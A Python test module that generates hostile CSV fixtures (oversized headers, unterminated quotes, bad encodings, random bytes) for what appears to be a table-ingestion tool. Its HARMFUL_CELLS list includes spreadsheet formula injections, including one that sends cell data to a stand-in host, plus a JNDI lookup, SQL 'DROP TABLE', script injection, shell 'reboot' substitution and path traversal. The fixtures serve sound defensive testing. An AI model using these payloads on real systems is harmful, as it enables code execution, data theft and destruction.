"""Texts: giant and odd headers, long lines, quotes, encodings, and cells that mean harm elsewhere."""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator, Sequence

from tests.hostile.hostile_file import LOADED, TABLE, HostileFile

MIB = 1 << 20
# What a spreadsheet, a log viewer, a shell, a database or a browser would run. To a table it is text.
HARMFUL_CELLS = [
    "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com?x="&A1,"here")', "\t=1+1", "%0A-3+3", "${jndi:ldap://example.com/a}",
    "'; DROP TABLE files; --", "<script>alert(1)</script>", "$(reboot)", "`reboot`", "{{7*7}}", "../../etc/passwd",
    "\x1b[2J\x1b[31mred", "a\x00b", "\u202egpj.exe", "\ufeffmark", "\u0000",
]  # fmt: skip


def headers() -> Iterator[HostileFile]:
    """First lines of too many, too long, equal, empty, forbidden or unreadable names; each for a table of its own."""
    many, deep = "too_many_columns", "[" * 50_000
    yield _header("20001_columns", _numbered(20_001), 20_001, (many,))
    yield _header("100000_columns", _numbered(100_000), 100_000, (many,))
    yield _header("million_blank_columns", b"," * 999_999, 1_000_000, (many,))
    yield _header("5000_equal_names", b",".join([b"name"] * 5000), 5000, LOADED)
    yield _header("1000_blank_names", b"," * 999, 1000)
    yield _header("name_of_a_mebibyte", b"a," + b"b" * (MIB + 1), 2)
    yield _header("metadata_names", b"processed_at,source_file,processing_job,_rescued_data,ingest_date", 5, LOADED)
    yield _header("metadata_names_again", b"Processed At,PROCESSED_AT,processed_at_2,Source-File", 4, LOADED)
    for number, cell in enumerate(HARMFUL_CELLS):
        yield _header(f"harmful_{number}", b'id,"' + cell.encode().replace(b'"', b'""') + b'"', 2)
    yield _header("bidi_and_joiners", "a\u202eb,a\u200db,a\u2066b,\u200b".encode(), 4)
    yield _header("one_letter_many_accents", ("e" + "\u0301" * 5000 + ",b").encode(), 2)
    yield _header("composed_and_decomposed", "\u00e9,e\u0301,\ufb01,fi".encode(), 4)
    yield _header("digits_of_5000_places", b"9" * 5000 + b"," + b"8" * 5000, 2)
    yield HostileFile("header_deep_json/t.csv", deep.encode())
    yield HostileFile("header_deep_json_whole/t.csv", (deep + "]" * 50_000).encode())
    yield HostileFile("header_deep_objects/t.csv", b'{"a":' * 50_000)
    yield HostileFile("header_deep_xml/t.csv", b"<a>" * 100_000)
    yield HostileFile("header_entities/t.csv", b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "b">]>\n<l>&a;</l>')
    for separator in ("=", "\\", '"', "\x00", "\n", "ab"):
        text = f"sep={separator}\na{separator}b\n1{separator}2\n"
        yield HostileFile(f"header_sep_{ord(separator[0])}/t.csv", text.encode())


def lines() -> Iterator[HostileFile]:
    """Records without measure, without ends, or of other widths than the header."""
    yield HostileFile("lines/20_mib.csv", b"id,name\n1," + b"x" * (20 * MIB))
    yield HostileFile("lines/20_mib_quoted.csv", b'id,name\n1,"' + b"x\n" * (10 * MIB) + b'"\n', LOADED)
    yield HostileFile("lines/20_mib_open.csv", b'id,name\n1,"' + b"x\n" * (10 * MIB), ("unterminated_quote",))
    yield HostileFile("lines/million_fields.csv", b"id,name\n1,a\n" + b"," * MIB + b"\n")
    yield HostileFile("lines/ragged.csv", b"id,name\n" + b"".join(b"1," * (n % 9) + b"x\n" for n in range(20_000)))
    yield HostileFile("lines/cr_only.csv", TABLE.replace(b"\n", b"\r"), LOADED)
    yield HostileFile("lines/all_ends.csv", b"id,name\r1,a\n2,b\r\n3,c\n\r4,d", LOADED)
    yield HostileFile("lines/unicode_ends.csv", "id,name\n1,a\u2028b\u2029c\x85d\x0be\x0cf\x1cg\n".encode())
    yield HostileFile("lines/ctrl_z.csv", TABLE + b"\x1a", LOADED)
    yield HostileFile("lines/only_line_ends.csv", b"\n" * MIB, ("empty_file",))
    yield HostileFile("lines_commas/t.csv", b"," * 10_000)
    yield HostileFile("lines/only_blanks.csv", b" \t" * MIB, ("empty_file",))
    yield HostileFile("lines/header_many_times.csv", b"id,name\n" * 50_000)
    yield HostileFile("lines/one_byte.csv", b"x")
    yield HostileFile("lines/nothing.csv", b"", ("empty_file",))


def quotes() -> Iterator[HostileFile]:
    """Quotes that never close, close too often, or stand where none may."""
    yield HostileFile("quotes/100000.csv", b"id,name\n1," + b'"' * 100_000 + b"\n")
    yield HostileFile("quotes/100001.csv", b"id,name\n1," + b'"' * 100_001 + b"\n")
    yield HostileFile("quotes/million_pairs.csv", b'id,name\n1,"' + b'""' * MIB + b'"\n', LOADED)
    yield HostileFile("quotes/every_other.csv", b"id,name\n" + b'1,"a\n2,b"\n3,"c"d"\n' * 5000)
    yield HostileFile("quotes/in_header.csv", b'id,"name\n' + b"1,a\n" * 1000)
    yield HostileFile("quotes/nothing_else.csv", b'"' * 99_999)
    yield HostileFile("quotes/backslashes.csv", b"id,name\n1," + b"\\" * 99_999 + b'"\n')
    yield HostileFile("quotes/escaped_end.csv", b'id,name\n1,"a\\"\n2,"b\\\\"\n3,"c\\')
    yield HostileFile("quotes/single.csv", b"id,name\n1,'a,b\n2,c'\n3,'d\n" * 1000)
    yield HostileFile("quotes/typographic.csv", "id,name\n1,“a,b”\n2,«c»\n".encode())
    yield HostileFile("quotes/delimiters_in_all.csv", b'"a;,|\tb","c;,|\td"\n' * 1000)


def encodings() -> Iterator[HostileFile]:
    """Bytes that are no UTF-8, or only seem to be."""
    text = "id,name\n1,Grüße — €\n2,日本語\n3,\U0001f600\n" * 20
    for encoding in ("utf-7", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be", "gb18030"):
        yield HostileFile(f"encodings/{encoding}.csv", text.encode(encoding))
    for encoding in ("cp037", "shift_jis", "koi8-r", "iso2022_jp"):
        yield HostileFile(f"encodings/{encoding}.csv", "id,name\n1,при\n".encode(encoding, "ignore") * 20)
    for mark, name in ((b"\xef\xbb\xbf", "8"), (b"\xff\xfe", "16"), (b"\xff\xfe\0\0", "32"), (b"\0\0\xfe\xff", "32be")):
        yield HostileFile(f"encodings/mark_alone_{name}.csv", mark, ("empty_file",))
        yield HostileFile(f"encodings/mark_lies_{name}.csv", mark + TABLE)
        yield HostileFile(f"encodings/marks_{name}.csv", mark * 1000 + TABLE)
    yield HostileFile("encodings/odd_utf16.csv", text.encode("utf-16") + b"\0")
    yield HostileFile("encodings/lone_surrogates.csv", "id,name\n1,\ud800\n2,\udfff\n".encode("utf-8", "surrogatepass"))
    yield HostileFile("encodings/surrogates_16.csv", "id,name\n1,\ud800\n".encode("utf-16", "surrogatepass"))
    yield HostileFile("encodings/beyond_unicode_32.csv", b"\xff\xfe\0\0" + b"\xff\xff\xff\x7f" * 100)
    yield HostileFile("encodings/overlong.csv", b"id,name\n1,\xc0\xaf\xe0\x80\xaf\n2,\xf4\x90\x80\x80\n")
    yield HostileFile("encodings/nuls.csv", b"id,name\n" + b"1,\0\n" * 1000)
    yield HostileFile("encodings/nul_lines.csv", b"id,name\n1,a\n" + b"\0" * 100_000)
    yield HostileFile("encodings/every_byte.csv", b"id,name\n1," + bytes(range(256)) + b"\n")
    yield HostileFile("encodings/late_latin.csv", TABLE * 200 + "7,Müller\n".encode("latin-1"))


def cells() -> Iterator[HostileFile]:
    """Values that are too long, too large, too deep, or harmful to whoever opens the table."""
    quoted = "".join(f'{number},"{cell.replace(chr(34), chr(34) * 2)}"\n' for number, cell in enumerate(HARMFUL_CELLS))
    yield HostileFile("cells_harmful/t.csv", f"id,name\n{quoted}".encode(), LOADED)
    for name, cell in {
        "digits": "9" * 10_000, "fraction": "0." + "1" * 10_000, "exponent": "1e999999999", "tiny": "1e-999999999",
        "far_date": "9999999-12-31", "no_date": "2024-02-31", "year_zero": "0000-00-00", "nan": "NaN",
        "offset": "2024-01-01T00:00:00+99:99", "leap": "2016-12-31T23:59:60Z", "plus": "+" * 1000, "dots": "." * 1000,
        "inf": "-Infinity",
        "deep_json": "[" * 10_000, "digits_of_others": "١٢٣٤", "superscript": "²³", "zero_width": "1\u200b2",
    }.items():  # fmt: skip
        yield HostileFile(f"cells_{name}/t.csv", b"id,name\n" + f"1,{cell}\n2,{cell}\n".encode(), LOADED)
        yield HostileFile(f"cells_{name}_alone/t.csv", f"{cell}\n{cell}\n".encode())
    yield HostileFile("cells_mebibytes/t.csv", b"id,name\n" + b"1," + b"7" * MIB + b"\n2," + b"8" * MIB + b"\n", LOADED)


def noise(seed: int = 7) -> Iterator[HostileFile]:
    """Bytes by chance, as they are and behind the first bytes of something known."""
    dice = random.Random(seed)  # noqa: S311 - repeatable on purpose
    for number, name in enumerate(["t.csv", "t.tsv", "t.txt", "t.csv.gz", "t.csv.bz2", "t.zip"] * 3):
        yield HostileFile(f"noise/{number}_{name}", dice.randbytes(10 ** (1 + number % 5)))
    gzips, zips = [b"\x1f\x8b\x08\0", b"\x1f\x8b\x08\x1c"], [b"PK\x03\x04", b"PK\x05\x06"]
    magics = [*gzips, *zips, b"BZh91AY&SY", b"id,name\n", b"\xff\xfe"]
    for number, magic in enumerate(magics * 2):
        yield HostileFile(f"noise/behind_{number}.csv", magic + dice.randbytes(3000))
    for number in range(8):
        words = [b",", b'"', b"\n", b"\r", b"\\", b";", b"\t", b"'", b"a", b"1", b"\0", b"\xff", b" "]
        yield HostileFile(f"noise/signs_{number}.csv", b"".join(dice.choices(words, k=5000)))


def _header(name: str, header: bytes, width: int, codes: tuple[str, ...] = ()) -> HostileFile:
    return HostileFile(f"header_{name}/t.csv", header + b"\n" + b"1," * (width - 1) + b"x\n", codes)


def _numbered(count: int) -> bytes:
    return b",".join(b"c%d" % number for number in range(count))


FAMILIES: Sequence[Callable[[], Iterator[HostileFile]]] = (headers, lines, quotes, encodings, cells, noise)
